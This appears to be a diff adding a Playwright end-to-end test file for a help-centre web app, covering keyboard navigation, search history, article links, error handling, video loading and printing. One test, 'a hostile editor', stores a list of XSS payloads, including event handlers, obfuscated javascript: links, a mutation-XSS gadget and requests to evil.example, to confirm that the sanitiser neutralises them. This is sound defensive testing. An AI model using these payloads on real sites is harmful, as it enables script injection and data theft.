@@ -1,0 +1,245 @@
+import type { Locator, Page } from '@playwright/test';
+
+import { expect, test } from './fixtures.ts';
+
+const title = (page: Page, name: string | RegExp) => page.getByRole('heading', { level: 1, name });
+
+/** Goes on with Tab until something has the focus. */
+async function tabTo(page: Page, wanted: Locator): Promise<void> {
+  for (let step = 0; step < 80; step += 1) {
+    if (await wanted.evaluateAll((all) => all.includes(document.activeElement as HTMLElement))) return;
+    await page.keyboard.press('Tab');
+  }
+  throw new Error(`Tab never reached ${String(wanted)}`);
+}
+
+/** Lets an article be what an editor has stored under its number. */
+async function storeArticle(page: Page, contentHtml: string): Promise<void> {
+  await page.route('**/api/help/articles/2', (route) =>
+    route.fulfill({
+      json: { article: { id: 2, name: 'Stored', description_html: '<b>D</b>', content_html: contentHtml } },
+    }),
+  );
+}
+
+test('[HC-06] [HC-09] [HC-05] [G-50] the way through the help centre by keys alone', async ({
+  page,
+  context,
+  signIn,
+}) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  const counted: unknown[] = [];
+  page.on('request', (request) => {
+    if (/help-analytics/.test(request.url())) counted.push(request.postDataJSON());
+  });
+  await signIn('ambassador');
+  await page.goto('/help-center');
+  await expect(title(page, 'How can we help?')).toBeVisible();
+
+  await page.keyboard.press('Control+k');
+  await page.keyboard.type('not accepted');
+  await expect(page.getByRole('listbox').getByRole('option').first()).toContainText(
+    'Why a channel is not accepted',
+  );
+  await page.keyboard.press('ArrowDown');
+  await page.keyboard.press('Enter');
+  await expect(title(page, 'Why a channel is not accepted')).toBeFocused();
+
+  const contents = page.getByRole('navigation', { name: 'In this article' }).getByRole('link');
+  await expect(contents.nth(1)).toBeVisible();
+  const section = (await contents.nth(1).textContent()) ?? '';
+  await tabTo(page, contents.nth(1));
+  await page.keyboard.press('Enter');
+  const heading = page.getByRole('heading', { level: 2, name: section });
+  await expect(heading).toBeFocused();
+  await page.keyboard.press('Tab');
+  await page.keyboard.press('Enter');
+  await expect(page.getByText('Link copied').first()).toBeVisible();
+  expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('/help/199#');
+
+  await tabTo(page, page.getByRole('button', { name: 'No', exact: true }));
+  await page.keyboard.press('Enter');
+  await expect(page.getByRole('textbox', { name: /Your comment/ })).toBeFocused();
+  await page.keyboard.type('Which figures count?');
+  await tabTo(page, page.getByRole('button', { name: 'Send comment' }));
+  await page.keyboard.press('Enter');
+  await expect(page.getByText('Thank you. The author reads every comment.')).toBeVisible();
+  const ask = page.getByRole('main').getByRole('button', { name: 'Write to support' });
+  await tabTo(page, ask);
+  await page.keyboard.press('Enter');
+  await expect(page.getByRole('textbox', { name: /In a few words/ })).toHaveValue(
+    'Why a channel is not accepted',
+  );
+  await page.keyboard.press('Escape');
+  await expect(page.getByRole('dialog')).toHaveCount(0);
+  await expect(ask).toBeFocused();
+  const actions = ['view', 'copy_link', 'feedback_no', 'contact'].map((action) => ({ action }));
+  expect(counted).toEqual(expect.arrayContaining(actions));
+
+  await page.keyboard.press('Alt+ArrowLeft');
+  await expect(title(page, 'How can we help?')).toBeVisible();
+});
+
+test('[HC-13] what was looked for is offered again, and forgotten with the sign-out', async ({
+  page,
+  signIn,
+}) => {
+  await signIn('ambassador');
+  await page.goto('/help-center');
+  const search = page.getByRole('combobox', { name: 'Search in help' });
+  for (const question of ['payout', 'invitation']) {
+    await search.fill(question);
+    await search.press('Enter');
+    await expect(title(page, `Answers to “${question}”`)).toBeVisible();
+  }
+  await page.goto('/help-center');
+  await search.click();
+  await expect(page.getByRole('listbox', { name: 'Recent searches' }).getByRole('option')).toHaveText([
+    'invitation',
+    'payout',
+  ]);
+  await search.press('ArrowDown');
+  await search.press('Enter');
+  await expect(title(page, 'Answers to “invitation”')).toBeVisible();
+
+  await page.goto('/home');
+  await page
+    .getByRole('button', { name: /account/i })
+    .first()
+    .click();
+  await page.getByRole('menuitem', { name: 'Sign out' }).click();
+  await page.waitForURL(/login|logout|signed/);
+  const kept = await page.evaluate(() => Object.keys(localStorage));
+  expect(kept.filter((key) => key.startsWith('recent-'))).toEqual([]);
+});
+
+test('[HC-11] [HELP-01] each article that the product names opens from its screen', async ({
+  page,
+  signIn,
+}) => {
+  await signIn('partner');
+  await page.goto('/accounts/youtube');
+  const question = page.getByRole('dialog', { name: 'How can we reach you?' });
+  await question.getByRole('button', { name: 'Not now' }).click();
+  for (const [path, link, id] of [
+    ['/accounts/youtube', 'How to connect a channel', 1],
+    ['/accounts/youtube', 'What happens next', 2],
+    ['/accounts/youtube', 'Why channels are not accepted', 199],
+    ['/services', 'How services work', 96],
+    ['/services/31', 'How distribution works', 94],
+    ['/services/26', 'How AI translation works', 100],
+    ['/home', 'How the referral program works', 99],
+  ] as const) {
+    await page.goto(path);
+    await page.getByRole('link', { name: link }).first().click();
+    await expect(page).toHaveURL(`/help-center/article/${id}`);
+    await expect(page.getByRole('article').getByRole('heading', { level: 2 }).first()).toBeVisible();
+  }
+});
+
+test('[HC-11] [ERR-05] an article that is gone is told, and the screen stays', async ({ page, signIn }) => {
+  await page.route('**/api/help/articles/96', (route) =>
+    route.fulfill({ status: 404, json: { message: 'Not found' } }),
+  );
+  await signIn('ambassador');
+  await page.goto('/services');
+  await page.getByRole('link', { name: 'How services work' }).click();
+  await expect(page.getByText('This was not found').first()).toBeVisible();
+  await expect(page).toHaveURL('/services');
+  await page.goto('/help-center/article/9999');
+  await expect(title(page, 'There is no such page')).toBeVisible();
+});
+
+test.describe('a hostile editor', () => {
+  test.use({
+    expectedConsole: [/Content Security Policy directive \W*(?:style-src|base-uri)/, /base-uri 'none'/],
+  });
+
+  test('[HC-10] what one has stored does nothing, and can be read', async ({ page, sandbox }) => {
+    const dialogs: string[] = [];
+    page.on('dialog', (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    const foreign: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes('evil.example')) foreign.push(request.url());
+    });
+    await storeArticle(
+      page,
+      [
+        '<h2>First</h2>',
+        '<script>alert(1)</script><p onclick="alert(1)">Handler</p>',
+        '<img src=x onerror=alert(1)><p>Picture</p>',
+        '<a href="jav&#9;ascript:alert(1)">Address</a>',
+        '<svg><animate onbegin="alert(1)" attributeName="x"/></svg><p>Drawing</p>',
+        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math><p>Mathematics</p>',
+        '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><iframe src="https://evil.example/f"></iframe><p>Frame</p>',
+        '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>Refresh</p>',
+        '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css"><p>Base</p>',
+        '<style>body{display:none}p{background:url(https://evil.example/p)}</style><p>Style</p>',
+        '<form action="https://evil.example"><p><button formaction="javascript:alert(1)">Form</button></p></form>',
+        '<img alt="" srcset="https://evil.example/i 2x"><p>Sources</p>',
+        '<a href="https://evil.example/" target="_blank" rel="opener">Opener</a>',
+        '<p id="root" name="cookie">Names</p>',
+        '<p>Unclosed</p><img src="https://evil.example/?',
+      ].join(''),
+    );
+    await page.goto('/help/2');
+    const article = page.getByRole('article');
+    await expect(article.getByRole('heading', { level: 2, name: 'First' })).toBeVisible();
+    for (const words of 'Handler Picture Address Drawing Mathematics Frame Refresh Base Style Form Sources Opener Names Unclosed'.split(
+      ' ',
+    )) {
+      await expect(article.getByText(words, { exact: true })).toBeVisible();
+    }
+    await article.getByText('Handler').click();
+    await article.getByText('Address').click();
+    await article.getByText('Form').click();
+    await expect(article.getByRole('link', { name: 'Opener' })).toHaveAttribute('rel', 'noopener noreferrer');
+    await expect(page).toHaveURL('/help/2');
+    expect({ dialogs, foreign }).toEqual({ dialogs: [], foreign: [] });
+    // Parsing alone already meets the policy of styles and bases; nothing ever asks for anything else.
+    expect(JSON.stringify(await sandbox.policyReports())).not.toMatch(
+      /script-src|img-src|frame-src|form-action/,
+    );
+  });
+});
+
+test('[HC-10] a video is fetched when it is played, and no earlier', async ({ page, sandbox }) => {
+  const asked: string[] = [];
+  await page.route('https://www.youtube-nocookie.com/**', (route) => {
+    asked.push(route.request().url());
+    return route.fulfill({ contentType: 'text/html', body: '<!doctype html><p>A film</p>' });
+  });
+  await storeArticle(
+    page,
+    '<h2>First</h2><iframe src="https://www.youtube.com/embed/abcdef12345" title="Two minutes"></iframe>',
+  );
+  await page.goto('/help/2');
+  const play = page.getByRole('button', { name: 'Play the video: Two minutes' });
+  await expect(play).toBeVisible();
+  expect(asked).toEqual([]);
+  await play.press('Enter');
+  await expect(page.frameLocator('iframe[title="Two minutes"]').getByText('A film')).toBeVisible();
+  expect(asked).toHaveLength(1);
+  expect(await sandbox.policyReports()).toEqual([]);
+});
+
+test('[HELP-03] a printed article is its text alone', async ({ page }) => {
+  await page.setViewportSize({ width: 794, height: 1123 });
+  await page.goto('/help/1');
+  await expect(page.getByRole('table').first()).toBeVisible();
+  await page.emulateMedia({ media: 'print' });
+  await expect(title(page, 'Connect a YouTube channel')).toBeVisible();
+  await expect(page.getByRole('table').first()).toBeVisible();
+  await expect(page.getByRole('link', { name: 'Sign in', exact: true })).toBeHidden();
+  await expect(page.getByText('Was this helpful?')).toBeHidden();
+  await expect(page.getByText('In this article').first()).toBeHidden();
+  const { wide, ground } = await page.evaluate(() => ({
+    wide: document.documentElement.scrollWidth - innerWidth,
+    ground: getComputedStyle(document.body).backgroundColor,
+  }));
+  expect(wide).toBeLessThanOrEqual(0);
+  expect(ground).not.toBe('rgb(0, 0, 0)');
+});
